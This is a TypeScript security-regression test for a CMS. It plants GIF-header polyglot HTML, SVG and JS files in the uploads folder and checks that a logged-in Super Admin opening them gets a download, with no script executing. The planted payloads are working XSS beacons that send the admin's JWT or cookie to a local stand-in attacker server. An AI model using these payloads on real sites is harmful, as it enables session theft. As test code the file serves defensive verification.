/**
 * The Super Admin opens uploaded files (issue 21.1 and 21.10). A reporter's file with a GIF header in front of a
 * script, named .html, .htm, .shtml, .xhtml, .xml, .svg or .js, is refused by the media library today
 * (cms/tests/api/uploads.test.ts); files planted in the uploads folder before that check are what is left, so
 * the test plants them and the Super Admin, logged in, opens each one as a link: on the admin's own origin
 * (`:1337/uploads`) and through the web's `/uploads`. Nothing runs: no request reaches the "attacker's" address,
 * which every script would call with the admin's token; and a planted `.js` is not run even when a page on the
 * admin's origin loads it as a script (the origin's CSP allows `script-src 'self'`).
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { ADMIN, CMS_DIR } from '../../../cms/tests/helpers/portal';
import { adminLogin } from './newsroom-desk';
import { startStack, type Stack } from './stack';

const UPLOADS = path.join(CMS_DIR, 'public', 'uploads');
let stack: Stack;
let attacker: http.Server;
let attackerUrl: string;
const hits: string[] = [];
const planted: string[] = [];

before(async () => {
  stack = await startStack();
  attacker = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

after(async () => {
  for (const file of planted) fs.rmSync(path.join(UPLOADS, file), { force: true });
  await new Promise((resolve) => attacker?.close(resolve));
  await stack?.stop();
});

/** What an attacker's file does when it runs: sends the admin's token (and that it ran) to their address. */
const beacon = (which: string) =>
  `new Image().src=${JSON.stringify(`${attackerUrl}/?file=${which}&t=`)}+encodeURIComponent(localStorage.jwtToken||document.cookie)`;

function plant(ext: string): string {
  const file = `planted-${crypto.randomBytes(4).toString('hex')}.${ext}`;
  const script = beacon(file);
  const content =
    ext === 'js'
      ? `GIF89a=1;${script}`
      : ext === 'svg'
        ? `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`
        : `GIF89a<script>${script}</script><img src=x onerror='${script}'>`;
  fs.writeFileSync(path.join(UPLOADS, file), content);
  planted.push(file);
  return file;
}

test('the Super Admin opens every planted file type from the admin and from the site: each downloads, nothing runs', async () => {
  const files = ['html', 'htm', 'shtml', 'xhtml', 'xml', 'svg', 'js'].map(plant);
  const page = await adminLogin(stack.browser, stack.cms.url, ADMIN, 'vi');
  try {
    for (const base of [stack.cms.url, stack.webUrl]) {
      for (const file of files) {
        const url = `${base}/uploads/${file}`;
        // Opened as a link from the admin (a new tab, as a Super Admin clicking it in a draft would).
        const tab = await page.context().newPage();
        const downloaded = tab.waitForEvent('download', { timeout: 10_000 }).then(
          (d) => d.suggestedFilename(),
          () => null,
        );
        await tab.goto(url).catch(() => undefined); // a download aborts the navigation
        const name = await downloaded;
        assert.ok(name, `${url} is downloaded, not shown as a page`);
        await tab.close();
      }
    }
    // A page of the admin's origin that loads the planted script: blocked (not JavaScript, nosniff).
    const js = files.find((f) => f.endsWith('.js'))!;
    const refused = page.waitForEvent('console', { predicate: (m) => /Refused to execute script/i.test(m.text()), timeout: 10_000 });
    await page.evaluate((src) => {
      const s = document.createElement('script');
      s.src = src;
      document.head.append(s);
    }, `/uploads/${js}`);
    await refused;
    await page.waitForTimeout(1_000);
    assert.deepEqual(hits, [], 'no planted file ran (no request reached the attacker)');
  } finally {
    await page.context().close();
  }
});
